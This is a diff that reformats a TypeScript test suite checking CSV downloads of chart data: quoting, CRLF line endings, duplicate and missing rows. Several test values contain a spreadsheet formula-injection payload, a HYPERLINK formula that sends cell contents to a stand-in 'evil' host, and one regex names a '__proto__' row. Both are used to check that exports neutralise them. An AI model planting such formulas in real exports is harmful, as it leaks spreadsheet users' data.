@@ -17,7 +17,13 @@ afterAll(() => rmSync(temp, { recursive: true, force: true }));
 
 // Labels a spreadsheet would run, a gap, a negative number, a midpoint with its range, and full precision.
 const spec = engagementSpec({
-  x: { column: 'year', label: 'Year', format: { type: 'year', decimals: 0 }, values: [2016, 2017, 2018], labels: ['2016', '2017', '2018'] },
+  x: {
+    column: 'year',
+    label: 'Year',
+    format: { type: 'year', decimals: 0 },
+    values: [2016, 2017, 2018],
+    labels: ['2016', '2017', '2018'],
+  },
   seriesColumn: 'label',
   series: [
     series('=HYPERLINK("http://evil/?"&A1,"Click")', 'formula', [0.1 + 0.2, null, -5], MICRO),
@@ -40,7 +46,9 @@ describe('downloads read back', () => {
     expect(compareDownload(text.replace('0.30000000000000004', '0.3'), spec)).toBe(
       'row 2, engagement_rate of year "2016", label "=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")": "0.3", expected "0.30000000000000004"',
     );
-    expect(compareDownload(text.replace(/\r\n2018,__proto__[^\r]*/, ''), spec)).toBe('4 rows, expected 5 (one per point drawn)');
+    expect(compareDownload(text.replace(/\r\n2018,__proto__[^\r]*/, ''), spec)).toBe(
+      '4 rows, expected 5 (one per point drawn)',
+    );
     expect(compareDownload(text.replace('year,label', 'label,year'), spec)).toBe(
       'header is ["label","year","engagement_rate","basis","range_low","range_high"], expected ["year","label","engagement_rate","basis","range_low","range_high"]',
     );
@@ -51,14 +59,18 @@ describe('downloads read back', () => {
     expect(compareDownload(text.replace(`"'=HYPERLINK`, '"=HYPERLINK'), spec)).toBe(
       'row 2: label "=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")" would run as a formula in a spreadsheet (no \' before it)',
     );
-    expect(compareDownload(text.replace(',-5,', ",'-5,"), spec)).toBe('row 3, engagement_rate of year "2018", label "=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")": "\'-5", expected "-5"');
+    expect(compareDownload(text.replace(',-5,', ",'-5,"), spec)).toBe(
+      'row 3, engagement_rate of year "2018", label "=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")": "\'-5", expected "-5"',
+    );
   });
 
   it('catch a row that stands in for another point', () => {
     const text = chartCsv(spec);
     const lines = text.split('\r\n');
     lines[2] = lines[1]!;
-    expect(compareDownload(lines.join('\r\n'), spec)).toBe('row 3 repeats the point year "2016", label "=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")"');
+    expect(compareDownload(lines.join('\r\n'), spec)).toBe(
+      'row 3 repeats the point year "2016", label "=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")"',
+    );
   });
 
   it('are all checked in a built folder, and a missing one is named', () => {
@@ -66,34 +78,59 @@ describe('downloads read back', () => {
     mkdirSync(dir, { recursive: true });
     writeFileSync(join(dir, 'engagement.csv'), chartCsv(spec));
     expect(verifyDownloads(temp, [{ slug: 'q3', charts: [spec] }])).toEqual([]);
-    expect(verifyDownloads(temp, [{ slug: 'q3', charts: [spec, { ...spec, id: 'cost' }] }])).toEqual(['/downloads/q3/cost.csv: missing']);
+    expect(verifyDownloads(temp, [{ slug: 'q3', charts: [spec, { ...spec, id: 'cost' }] }])).toEqual([
+      '/downloads/q3/cost.csv: missing',
+    ]);
   });
 });
 
 describe('a label with a line break', () => {
   const story = engagementSpec({
-    x: { column: 'story', label: 'Story', format: { type: 'category', decimals: 0 }, values: ['Once upon\na time', 'The end'], labels: ['Once upon\na time', 'The end'] },
+    x: {
+      column: 'story',
+      label: 'Story',
+      format: { type: 'category', decimals: 0 },
+      values: ['Once upon\na time', 'The end'],
+      labels: ['Once upon\na time', 'The end'],
+    },
   });
 
   it('is written quoted, with CRLF between records, and passes the check', () => {
     const text = chartCsv(story);
-    expect(text).toBe('\uFEFFstory,tier,engagement_rate,basis\r\n"Once upon\na time",micro,2.4,reported\r\nThe end,micro,2.2,reported\r\n"Once upon\na time",mega,1.7,reported\r\nThe end,mega,1.5,reported\r\n');
+    expect(text).toBe(
+      '\uFEFFstory,tier,engagement_rate,basis\r\n"Once upon\na time",micro,2.4,reported\r\nThe end,micro,2.2,reported\r\n"Once upon\na time",mega,1.7,reported\r\nThe end,mega,1.5,reported\r\n',
+    );
     expect(compareDownload(text, story)).toBeUndefined();
   });
 
-  it('reads back as the same cell in a CSV reader that guesses line endings, and in the project\'s own', () => {
+  it("reads back as the same cell in a CSV reader that guesses line endings, and in the project's own", () => {
     const text = chartCsv(story).slice(1);
     const guessed = Papa.parse<string[]>(text, { skipEmptyLines: true });
     expect(guessed.errors).toEqual([]);
-    expect(guessed.data.map((row) => row[0])).toEqual(['story', 'Once upon\na time', 'The end', 'Once upon\na time', 'The end']);
+    expect(guessed.data.map((row) => row[0])).toEqual([
+      'story',
+      'Once upon\na time',
+      'The end',
+      'Once upon\na time',
+      'The end',
+    ]);
     const own = parseCsv(text, 'download.csv');
     expect(own.problems).toEqual([]);
-    expect(own.rows.map((row) => row.cells[0])).toEqual(['Once upon\na time', 'The end', 'Once upon\na time', 'The end']);
+    expect(own.rows.map((row) => row.cells[0])).toEqual([
+      'Once upon\na time',
+      'The end',
+      'Once upon\na time',
+      'The end',
+    ]);
   });
 
   it('fails the check when the writer leaves it unquoted, or drops the break', () => {
     const text = chartCsv(story);
-    expect(compareDownload(text.replaceAll('"Once upon\na time"', 'Once upon\na time'), story)).toBe('a record ends in LF or CR, not CRLF');
-    expect(compareDownload(text.replaceAll('"Once upon\na time"', 'Once upon a time'), story)).toBe('row 2: story "Once upon a time" is not on the chart\'s x axis');
+    expect(compareDownload(text.replaceAll('"Once upon\na time"', 'Once upon\na time'), story)).toBe(
+      'a record ends in LF or CR, not CRLF',
+    );
+    expect(compareDownload(text.replaceAll('"Once upon\na time"', 'Once upon a time'), story)).toBe(
+      'row 2: story "Once upon a time" is not on the chart\'s x axis',
+    );
   });
 });
